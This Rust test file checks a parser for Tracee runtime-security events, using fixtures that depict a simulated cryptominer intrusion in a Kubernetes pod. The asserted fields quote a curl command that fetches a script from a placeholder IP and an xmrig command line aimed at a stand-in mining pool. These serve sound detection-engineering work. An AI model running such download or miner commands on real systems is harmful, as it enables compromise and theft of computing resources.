use super::*;
use crate::formats::test_support::{entity, obj};
use crate::formats::{detect_record, Format};

const LEGACY: &str = include_str!("../../../fixtures/samples/tracee/legacy-2022.jsonl");
const NESTED: &str = include_str!("../../../fixtures/samples/tracee/nested-2024.jsonl");
const V1BETA1: &str = include_str!("../../../fixtures/samples/tracee/v1beta1-2025.jsonl");
const LOGS: &str = include_str!("../../../fixtures/samples/tracee/kubectl-logs-tracee-x7k2p.log");
const BAD: &str = include_str!("../../../fixtures/samples/tracee/bad-records.jsonl");

const CID: &str = "335beb25619aada911de4c9c604086ce78db2f1ba7103cbf509937476f0575a3";
const POD: &str = "shop/cart-7f9c6d8b5-x2k4q";
const XMRIG: &str = "335beb25619a:2292803:/tmp/.x/xmrig";

fn parse_str(s: &str) -> NewEvent {
    parse(s.as_bytes()).unwrap_or_else(|e| panic!("{}: {}", e, s))
}

fn all(text: &str) -> Vec<NewEvent> {
    text.lines().map(parse_str).collect()
}

fn by_rule<'a>(evs: &'a [NewEvent], rule: &str) -> Vec<&'a NewEvent> {
    evs.iter().filter(|e| e.rule.as_deref() == Some(rule)).collect()
}

fn key(ev: &NewEvent, kind: EntityKind, role: &str) -> Option<String> {
    entity(ev, kind, role).map(|e| e.key.clone())
}

#[test]
fn every_event_of_every_generation_is_detected_as_tracee() {
    for line in LEGACY.lines().chain(NESTED.lines()).chain(V1BETA1.lines()) {
        assert_eq!(detect_record(&obj(line)), Some(Format::Tracee), "{}", &line[..80]);
    }
}

#[test]
fn the_sniffer_steals_nothing_and_log_lines_are_not_claimed() {
    for other in [
        r#"{"rule":"Terminal shell in container","priority":"Notice","output":"x","time":"2026-11-20T09:43:03Z","output_fields":{"proc.name":"sh"}}"#,
        r#"{"process_exec":{"process":{"binary":"/bin/sh"}},"time":"2026-11-20T09:43:03Z"}"#,
        r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a","stage":"ResponseComplete"}"#,
        r#"{"kind":"Pod","apiVersion":"v1","metadata":{"name":"cart","namespace":"shop"}}"#,
        r#"{"L":"INFO","T":"2026-11-20T09:12:45.903Z","M":"Tracee is ready callback"}"#,
        r#"{"level":"info","ts":1795165965.9031,"msg":"Signatures loaded"}"#,
        r#"{"name":"cart","kind":"Deployment"}"#,
    ] {
        assert!(!sniff(&obj(other)), "{}", other);
    }
    // A workload that is not an object is not v1beta1.
    assert!(!sniff(&obj(r#"{"name":"x","workload":"cart"}"#)));
}

#[test]
fn generations_are_told_apart_and_shaped() {
    assert!(all(LEGACY).iter().all(|e| e.fields["generation"] == "legacy" && e.shape == Some("tracee-legacy")));
    assert!(all(NESTED).iter().all(|e| e.fields["generation"] == "nested" && e.shape == Some("tracee-nested")));
    assert!(all(V1BETA1).iter().all(|e| e.fields["generation"] == "v1beta1" && e.shape == Some("tracee-v1beta1")));
    assert!(all(LEGACY).iter().chain(all(V1BETA1).iter()).all(|e| e.source == Source::Tracee));
}

#[test]
fn epoch_nanoseconds_are_exact_in_every_generation() {
    let legacy = all(LEGACY);
    let xmrig = by_rule(&legacy, "sched_process_exec").into_iter().find(|e| e.fields["exe"] == "/tmp/.x/xmrig").unwrap();
    // 2026-11-20T09:47:20.114300921Z: more digits than an f64 keeps.
    assert_eq!(xmrig.time_ns, Some(1_795_168_040_114_300_921));
    let v = all(V1BETA1);
    let vx = by_rule(&v, "sched_process_exec").into_iter().find(|e| e.fields["exe"] == "/tmp/.x/xmrig").unwrap();
    assert_eq!(vx.time_ns, Some(1_795_168_040_114_300_921));
    // The RFC 3339 text the newest marshaler writes means the same.
    let mut o = obj(V1BETA1.lines().nth(2).unwrap());
    o.insert("timestamp".into(), Value::from("2026-11-20T09:47:20.114300921Z"));
    assert_eq!(parse_str(&Value::Object(o).to_string()).time_ns, Some(1_795_168_040_114_300_921));
}

#[test]
fn exec_of_the_miner_gives_pod_container_image_and_process() {
    for (text, generation) in [(LEGACY, "legacy"), (NESTED, "nested"), (V1BETA1, "v1beta1")] {
        let evs = all(text);
        let ev = by_rule(&evs, "sched_process_exec").into_iter().find(|e| e.fields["exe"] == "/tmp/.x/xmrig").unwrap();
        assert_eq!(ev.kind, EventKind::Telemetry, "{}", generation);
        assert_eq!(ev.severity, Severity::Info);
        assert_eq!(ev.title, "exec /tmp/.x/xmrig", "{}", generation);
        assert_eq!(
            ev.fields["cmdline"],
            "./xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx -k --donate-level=1"
        );
        assert_eq!(ev.fields["host_pid"], 2292803);
        assert_eq!(ev.fields["pid"], 63);
        assert_eq!(ev.fields["host_ppid"], 32421);
        if generation != "v1beta1" {
            assert_eq!(ev.fields["uts_hostname"], "cart-7f9c6d8b5-");
        }
        assert!(ev.message.ends_with("in pod shop/cart-7f9c6d8b5-x2k4q"), "{}", ev.message);
        assert_eq!(key(ev, EntityKind::Namespace, "namespace").as_deref(), Some("shop"));
        let pod = entity(ev, EntityKind::Pod, "pod").unwrap();
        assert_eq!(pod.key, POD);
        assert_eq!(pod.attrs["uid"], "5073bb1d-f9d3-4ee8-9817-7e92b9975677");
        let c = entity(ev, EntityKind::Container, "container").unwrap();
        assert_eq!(c.key, CID);
        assert_eq!(c.attrs["name"], "cart");
        let image = entity(ev, EntityKind::Image, "image").unwrap();
        assert_eq!(image.key, "shopregistry.azurecr.io/shop/cart:2.3.1");
        if generation != "legacy" {
            assert_eq!(
                image.attrs["digest"],
                "sha256:aeaf1efab052b1dcf5343a5c4d02aa55aa54a7d686f7a402d9267e07f5835bb6",
                "{}",
                generation
            );
        }
        let p = entity(ev, EntityKind::Process, "process").unwrap();
        assert_eq!(p.key, XMRIG, "{}", generation);
        assert_eq!(p.attrs["container_pid"], 63);
        // hostName is the UTS name, never the node.
        assert!(entity(ev, EntityKind::Node, "node").is_none());
        assert_eq!(key(ev, EntityKind::File, "file").as_deref(), Some("/tmp/.x/xmrig"));
    }
    // v1beta1 names the parent's executable: a parent entity.
    let v = all(V1BETA1);
    let ev = by_rule(&v, "sched_process_exec").into_iter().find(|e| e.fields["exe"] == "/tmp/.x/xmrig").unwrap();
    assert_eq!(key(ev, EntityKind::Process, "parent-process").as_deref(), Some("335beb25619a:32421:/bin/sh"));
    assert_eq!(ev.fields["args"]["inode"], "3146291");
    // The camelCase generations do not: no parent key that could never join.
    let n = all(NESTED);
    let ev = by_rule(&n, "sched_process_exec").into_iter().find(|e| e.fields["exe"] == "/tmp/.x/xmrig").unwrap();
    assert!(entity(ev, EntityKind::Process, "parent-process").is_none());
    assert_eq!(ev.fields["process_entity_id"], 4036221958u64);
}

#[test]
fn the_miner_connection_names_ip_and_port_whatever_the_port_type() {
    for text in [LEGACY, NESTED, V1BETA1] {
        let evs = all(text);
        let ev = by_rule(&evs, "security_socket_connect")[0];
        assert_eq!(ev.title, "connect by xmrig to 198.51.100.77:4444");
        assert_eq!(ev.fields["dst_ip"], "198.51.100.77");
        assert_eq!(ev.fields["dst_port"], 4444);
        assert_eq!(ev.fields["family"], "AF_INET");
        let ip = entity(ev, EntityKind::Ip, "destination-ip").unwrap();
        assert_eq!(ip.key, "198.51.100.77");
        assert_eq!(ip.attrs["port"], 4444);
    }
    // Legacy records name the comm only: no process entity for the connect.
    let legacy = all(LEGACY);
    let ev = by_rule(&legacy, "security_socket_connect")[0];
    assert!(entity(ev, EntityKind::Process, "process").is_none());
    assert_eq!(ev.fields["process_name"], "xmrig");
    assert_eq!(ev.fields["syscall"], "connect");
    let nested = all(NESTED);
    assert_eq!(key(by_rule(&nested, "security_socket_connect")[0], EntityKind::Process, "process").as_deref(), Some(XMRIG));
}

#[test]
fn nested_signature_is_an_alert_with_its_trigger() {
    let evs = all(NESTED);
    let ev = by_rule(&evs, "TRC-1022 New executable dropped")[0];
    assert_eq!(ev.kind, EventKind::Alert);
    assert_eq!(ev.severity, Severity::Medium);
    assert_eq!(ev.title, "New executable dropped");
    assert_eq!(ev.tactics, vec!["TA0005"]);
    assert_eq!(ev.techniques, vec!["T1036"]);
    assert_eq!(ev.fields["signature_id"], "TRC-1022");
    assert_eq!(ev.fields["category"], "defense-evasion");
    assert_eq!(ev.fields["technique"], "Masquerading");
    assert_eq!(ev.fields["triggered_by"], "magic_write");
    assert_eq!(ev.fields["trigger"], "magic_write by curl on /tmp/.x/xmrig");
    assert_eq!(ev.fields["file_path"], "/tmp/.x/xmrig");
    assert_eq!(ev.fields["event_name"], "dropped_executable");
    assert_eq!(key(ev, EntityKind::Process, "process").as_deref(), Some("335beb25619a:32423:/usr/bin/curl"));
    assert_eq!(key(ev, EntityKind::File, "file").as_deref(), Some("/tmp/.x/xmrig"));
    assert!(ev.message.starts_with("New executable dropped: magic_write by curl on /tmp/.x/xmrig in pod "), "{}", ev.message);
    assert!(ev.search_text.contains("TRC-1022"));
}

#[test]
fn an_old_style_signature_gives_its_tactic_from_the_mitre_property() {
    let evs = all(NESTED);
    let ev = by_rule(&evs, "TRC-1013 Kubernetes API server connection detected")[0];
    assert_eq!(ev.kind, EventKind::Alert);
    assert_eq!(ev.severity, Severity::Low);
    assert_eq!(ev.tactics, vec!["TA0007"]);
    assert!(ev.techniques.is_empty(), "Tracee names no technique id here");
    assert_eq!(ev.fields["technique"], "Cloud Service Discovery");
    assert_eq!(ev.fields["dst_ip"], "10.0.0.1");
    assert_eq!(ev.fields["dst_port"], 443);
    assert_eq!(key(ev, EntityKind::Ip, "destination-ip").as_deref(), Some("10.0.0.1"));
}

#[test]
fn v1beta1_threat_is_the_same_alert() {
    let evs = all(V1BETA1);
    let ev = by_rule(&evs, "TRC-1022 New executable dropped")[0];
    assert_eq!(ev.kind, EventKind::Alert);
    assert_eq!(ev.severity, Severity::Medium, "severity MEDIUM (enum name)");
    assert_eq!(ev.tactics, vec!["TA0005"]);
    assert_eq!(ev.techniques, vec!["T1036"]);
    assert_eq!(ev.fields["triggered_by"], "magic_write");
    assert_eq!(ev.fields["detected_from_id"], 1026);
    assert_eq!(ev.fields["file_path"], "/tmp/.x/xmrig");
    assert_eq!(key(ev, EntityKind::Process, "process").as_deref(), Some("335beb25619a:32423:/usr/bin/curl"));
    let nested = all(NESTED);
    let n = by_rule(&nested, "TRC-1022 New executable dropped")[0];
    assert_eq!(n.time_ns, ev.time_ns);
    assert_eq!(n.entities.iter().filter(|e| e.role != "parent-process").count(), ev.entities.iter().filter(|e| e.role != "parent-process").count());
}

#[test]
fn severity_integers_follow_tracees_enum() {
    let sev = |v: Value| severity(Some(&v));
    assert_eq!(sev(Value::from(0)), Some(Severity::Info));
    assert_eq!(sev(Value::from(1)), Some(Severity::Low));
    assert_eq!(sev(Value::from(2)), Some(Severity::Medium));
    assert_eq!(sev(Value::from(3)), Some(Severity::High));
    assert_eq!(sev(Value::from(4)), Some(Severity::Critical));
    assert_eq!(sev(Value::from("HIGH")), Some(Severity::High));
    assert_eq!(sev(Value::from("warning")), Some(Severity::Medium));
    assert_eq!(sev(Value::from("whatever")), None);
}

#[test]
fn execve_keeps_the_caller_as_the_process() {
    let evs = all(NESTED);
    let ev = by_rule(&evs, "execve")[0];
    assert_eq!(ev.title, "execve /usr/bin/curl by sh");
    assert_eq!(ev.fields["exec_cmdline"], "curl -s http://198.51.100.23/x.sh");
    assert!(ev.fields.get("cmdline").is_none());
    assert_eq!(key(ev, EntityKind::Process, "process").as_deref(), Some("335beb25619a:32420:/bin/sh"));
}

#[test]
fn fd_strings_name_their_file() {
    let evs = all(LEGACY);
    let ev = by_rule(&evs, "close")[0];
    assert_eq!(ev.fields["fd"], 5);
    assert_eq!(ev.fields["file_path"], "/tmp/.x/xmrig");
    assert_eq!(ev.title, "close by curl on /tmp/.x/xmrig");
}

#[test]
fn host_processes_have_empty_strings_for_containers() {
    let ev = parse_str(LEGACY.lines().next().unwrap());
    assert_eq!(ev.fields["uts_hostname"], "aks-nodepool1-3");
    for kind in [EntityKind::Pod, EntityKind::Container, EntityKind::Image, EntityKind::Namespace, EntityKind::Process, EntityKind::Node] {
        assert!(ev.entities.iter().all(|e| e.kind != kind), "{:?}", kind);
    }
    assert!(ev.fields.get("container_id").is_none());
    assert!(ev.message.ends_with("on the host"));
    // The exe of a host exec is the resolved binary (`pathname`).
    assert_eq!(ev.fields["exe"], "/usr/sbin/xtables-nft-multi");
}

#[test]
fn v1beta1_pod_directly_under_workload_is_read_too() {
    let ev = parse_str(
        r#"{"timestamp":{"seconds":"1795168042","nanos":5},"name":"security_socket_connect",
            "workload":{"process":{"executable":{"path":"/tmp/.x/xmrig"},"host_pid":2292803,"pid":63},
                        "container":{"id":"335beb25619aada911de4c9c604086ce78db2f1ba7103cbf509937476f0575a3","image":"shopregistry.azurecr.io/shop/cart:2.3.1"},
                        "pod":{"name":"cart-7f9c6d8b5-x2k4q","namespace":"shop","uid":"5073bb1d-f9d3-4ee8-9817-7e92b9975677"}},
            "data":[{"name":"remote_addr","value":{"sa_family":"AF_INET6","sin6_addr":"2001:db8::77","sin6_port":4444}}]}"#,
    );
    assert_eq!(ev.time_ns, Some(1_795_168_042_000_000_005));
    assert_eq!(key(&ev, EntityKind::Pod, "pod").as_deref(), Some(POD));
    assert_eq!(key(&ev, EntityKind::Process, "process").as_deref(), Some(XMRIG));
    assert_eq!(ev.title, "connect by xmrig to [2001:db8::77]:4444");
}

#[test]
fn log_lines_are_skipped_and_text_is_understood() {
    let mut events = 0;
    let mut skipped = 0;
    let mut text = String::new();
    for line in LOGS.lines() {
        if !line.starts_with('{') {
            text.push_str(line);
            text.push('\n');
            continue;
        }
        match parse(line.as_bytes()) {
            Ok(_) => events += 1,
            Err(e) if e.skip => skipped += 1,
            Err(e) => assert!(e.reason.contains("invalid JSON"), "{}", e),
        }
    }
    assert_eq!((events, skipped), (5, 3));
    assert_eq!(parse_text(&text).unwrap(), vec![]);
    assert!(parse_text("hello world").unwrap_err().reason.contains("neither JSON nor a Tracee log line"));
    assert!(parse_text(r#"{"timestamp":17951680"#).unwrap_err().reason.contains("incomplete or invalid JSON"));
    assert!(parse_text("\n").is_err());
    assert!(parse_text("TIME             UID    COMM             PID     TID     RET              EVENT                ARGS").is_ok());
}

#[test]
fn bad_records_say_what_is_wrong() {
    let reasons: Vec<String> = BAD.lines().skip(1).map(|l| parse(l.as_bytes()).unwrap_err().reason).collect();
    assert!(reasons[0].contains("timestamp is a string, not an integer of epoch nanoseconds"), "{}", reasons[0]);
    assert!(reasons[1].contains("args is an object, not an array"), "{}", reasons[1]);
    assert!(reasons[2].contains("timestamp 8123456789012 is not epoch nanoseconds"), "{}", reasons[2]);
    assert!(reasons[3].contains("timestamp.seconds is not an integer"), "{}", reasons[3]);
    assert!(reasons[4].contains("invalid JSON"), "{}", reasons[4]);
    assert!(reasons.iter().all(|r| !r.is_empty()));
    assert!(parse(br#"{"eventName":"","processName":"sh","timestamp":1795168042000000000}"#).unwrap_err().reason.contains("eventName is empty"));
    assert!(parse(br#"{"something":"else"}"#).unwrap_err().reason.starts_with("not a Tracee event"));
    assert!(parse(br#"{"eventName":"x","processName":"sh","timestamp":1.5e18}"#).unwrap_err().reason.contains("not an integer"));
}

#[test]
fn odd_values_never_panic() {
    for raw in [
        r#"{"eventName":"x","processName":null,"timestamp":1795168042000000000,"args":[{"name":"remote_addr","value":"nope"},{"value":null},{"name":"argv","value":[1,null]}]}"#,
        r#"{"eventName":"x","processName":"sh","timestamp":1795168042000000000,"metadata":{"Properties":{"Severity":"??","MITRE ATT&CK":7}},"args":[{"name":"triggeredBy","value":null}]}"#,
        r#"{"name":"x","workload":{"process":{"host_pid":{"value":"12"},"ancestors":[1]},"container":{"image":{"repo_digests":[null]}}},"timestamp":{"seconds":1795168042}}"#,
        r#"{"name":"x","workload":{},"timestamp":{"seconds":"1795168042"},"data":[{"name":"a"}],"threat":{"mitre":{"technique":{"id":5}}}}"#,
    ] {
        let ev = parse(raw.as_bytes()).unwrap_or_else(|e| panic!("{}: {}", e, raw));
        assert_eq!(ev.source, Source::Tracee);
    }
}

#[test]
fn a_tracee_rules_finding_is_the_legacy_alert_of_its_context() {
    const RULES: &str = include_str!("../../../fixtures/samples/tracee/tracee-rules-2022.jsonl");
    let line = RULES.lines().next().unwrap();
    assert_eq!(detect_record(&obj(line)), Some(Format::Tracee));
    let ev = parse_str(line);
    assert_eq!(ev.kind, EventKind::Alert);
    assert_eq!(ev.rule.as_deref(), Some("TRC-13 Kubernetes API server connection detected"));
    assert_eq!(ev.severity, Severity::Low);
    assert_eq!(ev.tactics, vec!["TA0007"]);
    assert_eq!(ev.shape, Some("tracee-legacy"));
    assert_eq!(ev.fields["triggered_by"], "security_socket_connect");
    assert_eq!(ev.fields["trigger"], "connect by curl to 10.0.0.1:443");
    assert_eq!(ev.fields["finding_data"]["ip"], "10.0.0.1");
    assert_eq!(ev.time_ns, Some(1_795_167_940_118_420_554));
    assert_eq!(key(&ev, EntityKind::Ip, "destination-ip").as_deref(), Some("10.0.0.1"));
    assert_eq!(key(&ev, EntityKind::Pod, "pod").as_deref(), Some(POD));
    // SigMetadata without a Context event is nobody's.
    assert!(!sniff(&obj(r#"{"SigMetadata":{"ID":"TRC-1"},"Context":{"x":1}}"#)));
}
